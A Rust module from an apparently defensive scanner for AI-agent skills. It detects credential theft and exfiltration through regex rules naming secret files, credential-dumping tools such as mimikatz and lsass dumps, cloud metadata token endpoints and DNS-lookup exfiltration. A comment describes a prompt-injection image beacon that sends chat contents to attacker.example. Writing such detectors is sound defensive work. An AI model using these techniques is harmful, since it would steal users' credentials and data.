//! Credential access and exfiltration (categories `CredentialAccess` and
//! `Exfiltration`).
//!
//! Mentioning `~/.ssh/id_ed25519` is normal in an ssh-keygen guide; reading
//! it is suspicious; sending it anywhere is the attack. So the line rule
//! grades a secret path by what is done with it, and the analyzer looks at
//! every command that talks to the network for a secret payload: a secret
//! file, the whole environment, a secret variable outside an auth header, or
//! a variable or temp file filled from a secret earlier in the skill.
//! A token in an `Authorization` header sent to the project's own API is
//! how APIs work and is not reported. A name looked up whose first label
//! is a variable filled from a secret (`host "$t.x.example"`) carries it
//! by DNS: `exfil.dns-lookup`, `Critical`.
//!
//! `exfil.image-beacon` is the channel that needs no code: a markdown
//! image whose query string the agent is to fill in (`![](https://x/p.gif?u={message})`),
//! which the reader's client fetches by itself. `High`; `Low` when the
//! line talks about it as an attack.
//!
//! # Layout
//!
//! This file holds the line rules and the patterns of secrets they share;
//! `sender` the analyzers that follow a secret to a command that sends
//! it (and to a name looked up); tests are in `tests.rs`.

use std::sync::LazyLock;

use super::rule::{CONTEXT, Hit, Lazy, Rule, compile, slice_lossy};
use super::{Category, Severity};

/// Paths whose content is a credential.
pub(super) const SECRET_PATHS: &str = r#"\.ssh/(?:(?:id_[a-z0-9_]+|identity)(?:\.pub)?\b|id_\*(?:\.pub)?)|\.ssh/?(?:\*|\s|$|["'`)])|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?:\.pub)?|\.aws/credentials\b|\.config/gcloud/(?:application_default_credentials\.json|credentials\.db|access_tokens\.db|legacy_credentials)|\.azure/(?:accesstokens\.json|msal_token_cache)|\.git-credentials\b|\.netrc\b|\.gnupg\b|\.password-store\b|/etc/g?shadow\b|\.kube/config\b|\.docker/config\.json|\.npmrc\b|\.pypirc\b|\bgh/hosts\.yml|\blogin\.keychain|\bkeychains/|\b(?:google-chrome|chromium|brave-browser|chrome|firefox|microsoft\s+edge)/[^\n]*(?:cookies|login\s+data|logins\.json|key4\.db|web\s+data)\b|/proc/(?:self|\d+)/environ\b|serviceaccount/token\b|\bwallet\.dat\b"#;

/// Credential files of other tools: a database client's password file, a
/// secrets store's token, an object store's, a registry's or a cloud
/// CLI's keys and token caches, a coding agent's own login, a build
/// tool's publishing credentials (Gradle's and Maven's user settings), an
/// application's (WordPress's `wp-config.php`, Rails' master key). Prose names
/// them in routine setup steps ("put the password in `~/.pgpass`"), so
/// the line rule leaves them out; read by code, or sent by a command, they
/// are what `SECRET_PATHS` names are.
pub(super) const TOOL_SECRET_FILES: &str = r#"(?:^|[\s"'/`(=@])\.(?:pgpass|my\.cnf|vault-token|s3cfg|boto|databrickscfg)\b|\.cargo/credentials(?:\.toml)?\b|\.gem/credentials\b|\.terraform\.d/credentials\.tfrc\.json\b|\.config/hub\b|\brclone\.conf\b|\.aws/(?:sso|cli)/cache\b|\.claude/\.credentials\.json\b|\.codex/auth\.json\b|\.gemini/oauth_creds\.json\b|\bgithub-copilot/(?:hosts|apps)\.json\b|\bdoctl/config\.yaml\b|\.fly/config\.yml\b|\.wrangler/config/\w+\.toml\b|\bconfigstore/firebase-tools\.json\b|\bcom\.vercel\.cli/auth\.json\b|\.supabase/access-token\b|\.kaggle/kaggle\.json\b|\bhuggingface/(?:stored_)?tokens?\b|\.config/git/credentials\b|\bngrok2?/ngrok\.yml\b|\.oci/config\b|\.gradle/gradle\.properties\b|\.m2/settings(?:-security)?\.xml\b|(?:^|[\s"'/`(=@])wp-config\.php\b|\bconfig/master\.key\b|\.composer/auth\.json\b"#;

/// Paths that often hold secrets or reveal accounts, but are also routine.
const LESSER_PATHS: &str = r#"(?:^|[\s"'=@/<(:`])\.env(?:\.(?:local|prod|production|staging|dev|development))?(?:$|[\s"'`),;:])|/etc/passwd\b|\.(?:bash|zsh|python|psql|mysql)_history\b|\.aws/config\b"#;

const SECRET_TRIGGERS: &[&str] = &[
    ".ssh",
    // Prefixes: `id_ed25519_sk` is a key too.
    "id_rsa*",
    "id_dsa*",
    "id_ecdsa*",
    "id_ed25519*",
    ".aws/",
    "gcloud",
    ".azure",
    ".git-credentials",
    ".netrc",
    ".gnupg",
    ".password-store",
    "/etc/shadow",
    "/etc/gshadow",
    ".kube/config",
    ".docker/config",
    ".npmrc",
    ".pypirc",
    "gh/hosts",
    "keychain*",
    "google-chrome",
    "chromium",
    "brave-browser",
    "chrome/",
    "firefox",
    "microsoft edge",
    "/environ",
    "/token",
    "wallet.dat",
    ".env",
    "/etc/passwd",
    "_history",
];

static SECRET: Lazy = LazyLock::new(|| compile(SECRET_PATHS));
static ANY_SECRET: Lazy =
    LazyLock::new(|| compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{TOOL_SECRET_FILES}")));

/// Commands and verbs that read, copy or ship a file's content.
static READER: Lazy = LazyLock::new(|| {
    compile(
        r"\b(?:cat|less|more|head|tail|cp|mv|scp|rsync|base64|xxd|od|hexdump|strings|tar|zip|7z|gzip|bzip2|openssl|gpg|grep|awk|sed|dd|curl|wget|nc|ncat|open|read_text|readfile|readfilesync|get-content|type|copy-item|read|include|paste|print|output|display|upload|send|attach|exfiltrate)\b|<\s*\S",
    )
});

/// An image beacon shown as an example of an attack ("a page asking the
/// bot to render `![x](https://attacker.example/?q=<chat>)`") is worth a
/// look, not a refusal.
fn beacon(h: &Hit<'_>) -> Option<Severity> {
    let line = [h.before(), h.tail()].concat();
    Some(if super::instruction::talks_about_attacks(&line) { Severity::Low } else { h.base })
}

/// The line rules of this family.
pub(super) fn rules() -> Vec<Rule> {
    use Category::{CredentialAccess as A, Exfiltration as X};
    use Severity::*;
    vec![
        // A markdown image the reader's client loads by itself, whose query
        // string the agent is to fill in: whatever goes in the blank leaves
        // with the request, unseen (the zero-click channel of an injected
        // reply). A badge's fixed URL has no blank.
        Rule::new(
            "exfil.image-beacon",
            X,
            High,
            &["!["],
            r"!\[[^\]\n]*\]\(\s*<?https?://[^\s)>]*[?&][^\s)>=]*=(?:[^\s)>&]*)(?:\{\{?\s*[a-z_][\w .|-]*\}|<[a-z_][\w-]*>|\$\{?[a-z_]\w*|%s|\[[a-z_][\w ]*\])",
        )
        .assess(beacon)
        .explainable(),
        Rule::new("cred.secret-file", A, High, SECRET_TRIGGERS, format!("{SECRET_PATHS}|{LESSER_PATHS}"))
            .assess(secret_file)
            .warnable(),
        Rule::new(
            "cred.keychain-dump",
            A,
            High,
            &["dump-keychain", "find-generic-password", "find-internet-password"],
            r"\bsecurity\s+(?:dump-keychain\b|find-(?:generic|internet)-password\b[^\n]*\s-[a-z]*[wg]\b)",
        )
        .assess(keychain)
        .warnable(),
        // The operating system's own credential stores copied whole: the
        // memory of the process that holds every logged-on user's
        // secrets, the registry hives of the local accounts' hashes, the
        // domain's database, and the tools made to read them.
        Rule::new(
            "cred.os-store-dump",
            A,
            High,
            &[
                "lsass", "hklm\\sam", "hklm\\security", "hklm/sam", "hklm/security", "ntds.dit", "mimikatz",
                "sekurlsa", "lazagne", "secretsdump", "comsvcs",
            ],
            r#"\b(?:procdump\w*|out-minidump|createdump|pypykatz)\b[^\n]*\blsass\b|\bcomsvcs(?:\.dll)?\W+#?\s*(?:minidump|24)\b|\breg(?:\.exe)?\s+save\s+["']?hklm[\\/](?:sam|security)\b|\bntds\.dit\b[^\n]*\b(?:copy|esentutl|ntdsutil|secretsdump)|\b(?:copy|esentutl|ntdsutil)\b[^\n]*\bntds\.dit\b|\bmimikatz\b|\bsekurlsa::|\blazagne(?:\.exe|\.py)?\s+all\b|\bsecretsdump(?:\.py)?\b"#,
        )
        .warnable(),
        // Secrets staged for a commit: once pushed, every clone has them.
        Rule::new(
            "cred.secret-committed",
            A,
            High,
            &["git add"],
            format!(r#"\bgit\s+add\b[^\n|;&]*(?:{SECRET_PATHS}|(?:^|[\s/])\.env(?:\.(?:local|prod|production))?(?:$|[\s"'`;|&])|\bmaster\.key\b|\bcredentials\.json\b)"#),
        )
        .warnable(),
        Rule::new(
            "cred.cloud-metadata",
            A,
            High,
            &["169.254.169.254", "metadata.google.internal", "/metadata/identity"],
            r"\b169\.254\.169\.254/(?:latest/(?:meta-data/iam|api/token)|computemetadata|metadata/identity)|\bmetadata\.google\.internal/computemetadata/v1/instance/service-accounts|/metadata/identity/oauth2/token",
        )
        .assess(cloud_metadata)
        .warnable(),
        Rule::new(
            "cred.ask-for-secret",
            A,
            High,
            &["ask", "asking"],
            r"\bask(?:ing)?\W+(?:them|him|her|the\W+user|users|the\W+new\W+\w+|new\W+\w+|everyone|colleagues)\W+for\W+(?:their|your|his|her)\W+(?:[\w-]+\W+){0,3}?(?:passwords?|passphrases?|tokens?|credentials|api\W+keys?|private\W+keys?|otp|mfa\W+codes?|2fa\W+codes?|recovery\W+codes?)\b",
        )
        .requires(&["password", "passphrase", "token", "credential", "key", "otp", "code"])
        .warnable()
        .span(1),
        Rule::new(
            "cred.ci-secrets-dump",
            A,
            High,
            &["tojson(secrets", "tojson( secrets"],
            r"\btojson\(\s*secrets\s*\)",
        ),
        Rule::new(
            "exfil.credential-helper",
            X,
            Critical,
            &["credential.helper"],
            r"\bcredential\.helper\b[^\n]*\b(?:curl|wget|nc|ncat|socat|scp)\b",
        ),
        Rule::new(
            "exfil.dns-lookup",
            X,
            High,
            // The pattern takes only the commands its triggers name: the
            // engine confirms no other line. `host` and `ping` are common
            // words (prose says "from another host: `…`"): they count only
            // at a command's place, right before the substitution.
            &["dig", "nslookup", "drill", "host $(", "host `", "host \"$(", "ping $(", "ping `", "ping \"$(", "ping -*"],
            r#"\b(?:dig|nslookup|drill)\b[^\n|;&]*(?:\$\(|`)[^\n]*\.[a-z]|(?:^|[;&|(`]\s*|\bdo\s+|\bthen\s+)(?:ping\s+(?:-\S+\s+)*|host\s+)(?:"?\$\(|`)[^\n]*\.[a-z]"#,
        )
        .requires(&["$(", "`"])
        .assess(dns_lookup),
        Rule::new(
            "exfil.instruction",
            X,
            High,
            &[
                "send", "upload", "post", "transmit", "forward", "paste", "share", "copy", "include", "attach",
                "email", "e-mail", "submit", "exfiltrate",
            ],
            r"\b(?:send|upload|post|transmit|forward|paste|share|copy|include|attach|e-?mail|submit|exfiltrate)\b",
        )
        .requires(&["://", "webhook", "endpoint", "pastebin", "bucket", "@"])
        .assess(exfil_instruction)
        .warnable()
        .span(1),
    ]
}

/// A credential path: read → High, mentioned → Low; routine paths one step
/// less, and not reported when only mentioned.
/// IMDSv2's session token (`PUT …/latest/api/token`) opens the metadata
/// service to the next request and is no credential itself: every
/// hardening guide and health check fetches it. What it is then used to
/// read is the theft (`…/meta-data/iam/security-credentials/`, its own
/// match, `High`).
fn cloud_metadata(h: &Hit<'_>) -> Option<Severity> {
    Some(if h.text().ends_with("api/token") { Severity::Low } else { h.base })
}

fn secret_file(h: &Hit<'_>) -> Option<Severity> {
    let m = h.text();
    if m.to_ascii_lowercase().trim_end_matches(|c: char| !c.is_ascii_alphanumeric()).ends_with(".pub") {
        return None;
    }
    let strong = SECRET.is_match(m.as_bytes());
    // `ssh -i KEY`, `ssh-add KEY`, `chmod 600 KEY` use a key without reading it.
    let read = reads_path(h) && !KEY_USE.is_match(h.before().as_bytes());
    match (strong, read) {
        (true, true) => Some(Severity::High),
        (true, false) if m.contains("shadow") => Some(Severity::Medium),
        (true, false) => Some(Severity::Low),
        (false, true) if m.contains(".env") || m.contains("_history") => Some(Severity::Medium),
        (false, true) => Some(Severity::Low),
        // `.env` and `/etc/passwd` are named in every config and test guide.
        (false, false) => None,
    }
}

/// One generic item named by its service (`-s NAME`), the way a script
/// keeps its own token; what browsers, chat apps and the system keep there
/// is someone else's secret.
static OWN_ITEM: Lazy = LazyLock::new(|| compile(r#"\sfind-generic-password\b[^\n|;&]*\s-s\s*["']?[\w.@-]"#));
static OTHERS_ITEM: Lazy = LazyLock::new(|| {
    compile(
        r"safe\s*storage|chrom|brave|edge|opera|vivaldi|firefox|safari|slack|discord|teams|zoom|signal|telegram|whatsapp|icloud|apple|airport|wi-?fi|1password|bitwarden|lastpass|keychain|ssh|aws|gcloud|azure|docker",
    )
});

/// `dump-keychain` and password lookups stay High; reading back one item
/// the skill's own tool stored under its service name is Medium.
fn keychain(h: &Hit<'_>) -> Option<Severity> {
    let cmd = h.tail();
    let cmd = cmd.split(['|', ';', '&', ')', '\n']).next().unwrap_or(cmd);
    let own = OWN_ITEM.is_match(cmd.as_bytes()) && !OTHERS_ITEM.is_match(cmd.as_bytes());
    Some(if own { Severity::Medium } else { h.base })
}

/// An English verb among [`READER`]'s words used in the passive: after the
/// path, it is about something else ("with the token read from an
/// environment variable", "files are only read by the dev server").
static PASSIVE: Lazy = LazyLock::new(|| {
    compile(
        r"^(?:read|included|pasted|printed|output|displayed|uploaded|sent|attached|opened|typed|copied)\s+(?:from|by)\b",
    )
});

/// Whether the line reads the path the hit matched: a reader before it
/// (`cat`, `< path`, `open(`), or after it (`-exec cat`, `.read_text()`,
/// "and paste its token"), unless that one is a passive about another
/// thing, or an adjective: OpenSSH's own warning quoted, "Permissions 0644
/// for '~/.ssh/id_ed25519' are too open", reads nothing.
fn reads_path(h: &Hit<'_>) -> bool {
    let before = h.before().as_bytes();
    if READER.find_iter(before).any(|r| is_verb(before, r.range())) {
        return true;
    }
    let after = slice_lossy(h.hay, h.m.end..h.line_len.min(h.m.end + CONTEXT)).as_bytes();
    READER.find_iter(after).any(|r| is_verb(after, r.range()) && !PASSIVE.is_match(&after[r.start()..]))
}

/// Whether a [`READER`] word at `at` of `hay` is used as one: not a key
/// given a value (`--mount=type=secret`), nor an adjective ("permissions
/// are too open").
fn is_verb(hay: &[u8], at: std::ops::Range<usize>) -> bool {
    let key = hay.get(at.end) == Some(&b'=');
    let adjective = hay[..at.start].to_ascii_lowercase().ends_with(b"too ");
    !key && !adjective
}

static KEY_USE: Lazy = LazyLock::new(|| {
    compile(
        r#"(?:\s-i|\bidentityfile|--key|--cert|\bssh-add|\bssh-keygen\b[^\n]*\s-f|\bchmod\s+\S+|\bchown\s+\S+)\s*=?\s*["']?[~$\w{}/.-]*$"#,
    )
});

static SECRET_NOUN: Lazy = LazyLock::new(|| {
    compile(
        r"\bcredentials?\b|\bprivate\s+keys?\b|\bssh\s+keys?\b|\bapi\s+keys?\b|\baccess\s+keys?\b|\bsecret\s+keys?\b|\btokens?\b|\bpasswords?\b|\.env\b|\benvironment\s+variables\b|\bcookies\b|\bid_rsa\b|\bid_ed25519\b|\.aws/|\.ssh/|\.npmrc\b|\.netrc\b|\bkeychain\b",
    )
});
static DESTINATION: Lazy = LazyLock::new(|| {
    compile(
        r"https?://|\bto\s+(?:the\s+|our\s+|this\s+|a\s+)?(?:webhook|endpoint|url|server|address|bucket|pastebin)\b|\b[a-z0-9._+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}\b",
    )
});
static END_OF_SENTENCE: Lazy = LazyLock::new(|| compile(r"[;!?]|\.(?:\s|$)"));

/// "Send the contents of ~/.aws/credentials to https://…": a verb, a
/// secret and a destination in one sentence. An HTTP method (`-X POST`)
/// is not a verb of the prose.
fn exfil_instruction(h: &Hit<'_>) -> Option<Severity> {
    let before = h.before().trim_end();
    if before.ends_with("-X") || before.ends_with("--request") {
        return None;
    }
    // The secret may come before the verb ("ask for the token, then email
    // it to …") or after it; the destination comes after the verb.
    let rest = h.after().as_bytes();
    let sentence = &rest[..END_OF_SENTENCE.find(rest).map_or(rest.len(), |m| m.start())];
    let earlier = h.before().as_bytes();
    let clause_start = END_OF_SENTENCE.find_iter(earlier).last().map_or(0, |m| m.end());
    let secret_after = private_secret(sentence);
    if !(secret_after.is_some() || private_secret(&earlier[clause_start..]).is_some()) {
        return None;
    }
    let from = secret_after.map_or(0, |m| m.end());
    DESTINATION.is_match(&sentence[from..]).then_some(h.base)
}

/// The first secret named in `text` that is not a public key: `ssh-copy-id
/// -i ~/.ssh/id_ed25519.pub me@host` and "copy your public SSH key to
/// git@…" hand out what is meant to be handed out.
fn private_secret(text: &[u8]) -> Option<regex::bytes::Match<'_>> {
    SECRET_NOUN.find_iter(text).find(|m| {
        let rest = &text[m.end()..];
        let word = &rest[..rest
            .iter()
            .position(|&c| c.is_ascii_whitespace() || b"\"'`),;".contains(&c))
            .unwrap_or(rest.len())];
        let word = word.strip_suffix(b".").unwrap_or(word);
        let before = &text[m.start().saturating_sub(7)..m.start()];
        let public = word.ends_with(b".pub") || sender::is_public_key(&text[m.start()..]);
        !(public || before.eq_ignore_ascii_case(b"public "))
    })
}

fn dns_lookup(h: &Hit<'_>) -> Option<Severity> {
    let line = h.line().as_bytes();
    Some(if ANY_SECRET.is_match(line) || ENV_DUMP.is_match(line) { Severity::Critical } else { h.base })
}

const ENV_DUMP_PATTERN: &str = r#"\btojson\(\s*secrets\s*\)|(?:^|[|;&(`]|\$\()\s*(?:env|printenv|export\s+-p|declare\s+-x)\s*(?:$|[|)`;&>])|\bos\.environ\b(?:\.copy\(\))?\s*[,)}\]]|\bdict\(\s*os\.environ\s*\)|\*\*os\.environ\b|json\.dumps\(\s*(?:dict\(\s*)?os\.environ|json\.stringify\(\s*process\.env\s*\)|\bprocess\.env\s*[,)}\]]|\b(?:get-childitem|gci|dir|ls)\s+env:"#;
/// The whole environment, rather than one variable of it.
static ENV_DUMP: Lazy = LazyLock::new(|| compile(ENV_DUMP_PATTERN));

const SECRET_VAR_PATTERN: &str = r#"\$\{\{\s*secrets\.[a-z0-9_]+\s*\}\}|\$\{?[a-z0-9_]*(?:token|secret|passw|pwd|api_?key|access_?key|private_?key|credential|session|cookie)[a-z0-9_]*\}?|\$\{?aws_[a-z_]+\}?|\bos\.environ\[\s*["'][a-z0-9_]*(?:token|secret|passw|key)[a-z0-9_]*["']|\bprocess\.env\.[a-z0-9_]*(?:token|secret|passw|key)"#;

mod sender;

/// The analyzers of this family.
pub(super) fn analyzers() -> Vec<super::engine::Analyzer> {
    sender::analyzers()
}

#[cfg(test)]
use sender::{ENVIRONMENT_WINDOW_LINES, TAINT_LOOKBACK_LINES, strip_auth_args};

#[cfg(test)]
mod sweep_tests;
#[cfg(test)]
mod tests;
